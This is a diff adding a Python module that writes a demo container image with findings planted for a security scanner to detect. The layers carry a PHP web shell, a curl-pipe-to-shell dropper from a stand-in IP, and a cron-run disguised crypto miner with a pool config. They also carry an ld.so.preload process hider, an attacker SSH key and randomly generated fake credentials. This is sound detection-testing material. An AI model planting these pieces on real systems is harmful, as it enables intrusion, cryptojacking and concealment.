@@ -1,0 +1,109 @@
+"""The built-in demo image: a small made-up service image with planted findings in several layers.
+
+It is written on the fly with `explorer.imagewriter` (no daemon, no network). Secrets are generated
+from a fixed seed at run time, so this source file holds no token that a scanner would flag.
+"""
+
+from __future__ import annotations
+
+import os
+import random
+import string
+import tempfile
+
+from explorer.imagewriter import Entry, ImageSpec, Layer, write_image
+
+DEMO_TAG = "explorer-demo:latest"
+
+
+def _token(rng: random.Random, n: int, alphabet: str = string.ascii_letters + string.digits) -> str:
+    return "".join(rng.choice(alphabet) for _ in range(n))
+
+
+def _elf(marker: bytes, size: int = 4096) -> bytes:
+    """A fake 64-bit ELF header followed by filler and some strings; never a runnable program."""
+    head = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
+    body = head + b"\x00" * 40 + marker
+    return body + b"\x00" * max(0, size - len(body))
+
+
+def demo_spec() -> ImageSpec:
+    rng = random.Random(20261128)
+    github = "ghp_" + _token(rng, 36)
+    aws_id = "AKIA" + _token(rng, 16, string.ascii_uppercase + "234567")
+    aws_secret = _token(rng, 40, string.ascii_letters + string.digits + "+/")
+    npm = "npm_" + _token(rng, 36)
+    slack = "xoxb-" + "-".join(_token(rng, n, string.digits) for n in (12, 13)) + "-" + _token(rng, 24)
+    pool = "stratum+tcp://pool.supportxmr.com:3333"
+    wallet = "4" + _token(rng, 94, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
+    miner = _elf(b"XMRig 6.21.0\x00--donate-level\x00--randomx-1gb-pages\x00--cpu-priority\x00rx/0\x00"
+                 b"cryptonight\x00" + pool.encode() + b"\x00", 16384)
+    base = Layer([
+        Entry.dir("/bin"), Entry.file("/bin/busybox", _elf(b"BusyBox v1.36.1 multi-call binary"), 0o755),
+        Entry.symlink("/bin/sh", "busybox"),
+        Entry.dir("/etc"),
+        Entry.file("/etc/passwd", b"root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\n"),
+        Entry.file("/etc/shadow", b"root:*:19000:0:99999:7:::\nnobody:*:19000:0:99999:7:::\n", 0o640),
+        Entry.file("/etc/os-release", b'PRETTY_NAME="Demo Linux 1.0"\nID=demo\n'),
+        Entry.dir("/root", 0o700), Entry.dir("/tmp", 0o1777), Entry.dir("/srv"),
+        Entry.dir("/usr"), Entry.dir("/usr/bin"),
+    ], created_by="/bin/sh -c #(nop) ADD file:4f1c0b3e9d7a in / ", compression="gzip")
+    tools = Layer([
+        Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", _elf(b"curl 8.5.0 libcurl"), 0o755),
+        Entry.dir("/var"), Entry.dir("/var/lib"), Entry.dir("/var/lib/apt"), Entry.dir("/var/lib/apt/lists"),
+        Entry.file("/var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease", b"Origin: Debian\n" * 200),
+    ], created_by="/bin/sh -c apt-get update && apt-get install -y curl", compression="zstd")
+    app = Layer([
+        Entry.dir("/srv/app"),
+        Entry.file("/srv/app/app.py", b"import os\n\nTOKEN = os.environ.get('GITHUB_TOKEN')\nprint('hello')\n"),
+        Entry.file("/srv/app/.env", f"APP_ENV=production\nGITHUB_TOKEN={github}\nSLACK_BOT_TOKEN={slack}\n".encode()),
+        Entry.dir("/root/.aws", 0o700),
+        Entry.file("/root/.aws/credentials",
+                   f"[default]\naws_access_key_id = {aws_id}\naws_secret_access_key = {aws_secret}\n".encode(), 0o600),
+    ], created_by="COPY app/ /srv/app/ # buildkit", compression="gzip")
+    dropper = Layer([
+        Entry.dir("/tmp/.x"),
+        Entry.file("/tmp/.x/kworker", miner, 0o755),
+        Entry.file("/tmp/.x/config.json", ('{"autosave": true, "donate-level": 1, "cpu": {"enabled": true},\n'
+                                           ' "pools": [{"algo": "rx/0", "url": "pool.supportxmr.com:3333",\n'
+                                           f'   "user": "{wallet}", "pass": "x", "tls": false}}]}}\n').encode()),
+        Entry.dir("/etc/cron.d"),
+        Entry.file("/etc/cron.d/sysupdate", b"*/5 * * * * root /tmp/.x/kworker -c /tmp/.x/config.json >/dev/null 2>&1\n"),
+        Entry.file("/etc/ld.so.preload", b"/usr/local/lib/libprocesshider.so\n"),
+        Entry.dir("/usr/local"), Entry.dir("/usr/local/lib"),
+        Entry.file("/usr/local/lib/libprocesshider.so",
+                   _elf(b"readdir\x00readdir64\x00dlsym\x00/proc/self/fd/%d\x00/proc/%s/stat\x00kworker\x00")),
+    ], created_by="/bin/sh -c curl -fsSL http://203.0.113.7/install.sh | sh", compression="gzip")
+    cleanup = Layer([
+        Entry.whiteout("/srv/app/.env"),
+        Entry.whiteout("/tmp/.x"),
+    ], created_by="/bin/sh -c rm -rf /srv/app/.env /tmp/.x", compression="gzip")
+    access = Layer([
+        Entry.dir("/root/.ssh", 0o700),
+        Entry.file("/root/.ssh/authorized_keys",
+                   b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + _token(rng, 43).encode() + b" op@c2\n", 0o600),
+        Entry.dir("/var/www"), Entry.dir("/var/www/html"),
+        Entry.file("/var/www/html/up.php", b"<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>\n"),
+        Entry.file("/var/www/html/logo.png", _elf(b"\x00reverse\x00/bin/sh\x00")),
+        Entry.file("/bin/ps", _elf(b"procps"), 0o4755),
+        Entry.dir("/usr/bin"), Entry.file("/usr/bin/curl", _elf(b"curl 8.5.0 libcurl patched"), 0o755),
+    ], created_by="/bin/sh -c #(nop) COPY dir:9a1f3 in / ", compression="none")
+    return ImageSpec(
+        layers=[base, tools, app, dropper, cleanup, access],
+        env=["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+             f"AWS_SECRET_ACCESS_KEY={aws_secret}", "APP_ENV=production"],
+        cmd=["/bin/sh", "-c", "python3 /srv/app/app.py"],
+        labels={"maintainer": "demo@example.com"},
+        volumes=["/var/run/docker.sock"],
+        extra_history=[(2, f"|1 NPM_TOKEN={npm} /bin/sh -c #(nop) ARG NPM_TOKEN"),
+                       (4, "/bin/sh -c #(nop)  ENV AWS_SECRET_ACCESS_KEY=" + aws_secret)],
+        tag=DEMO_TAG,
+    )
+
+
+def write_demo(folder: str | None = None) -> str:
+    """Write the demo image as a docker-archive and return its path."""
+    folder = folder or tempfile.mkdtemp(prefix="explorer-demo-")
+    path = os.path.join(folder, "explorer-demo.tar")
+    write_image(demo_spec(), path, format="docker-archive")
+    return path
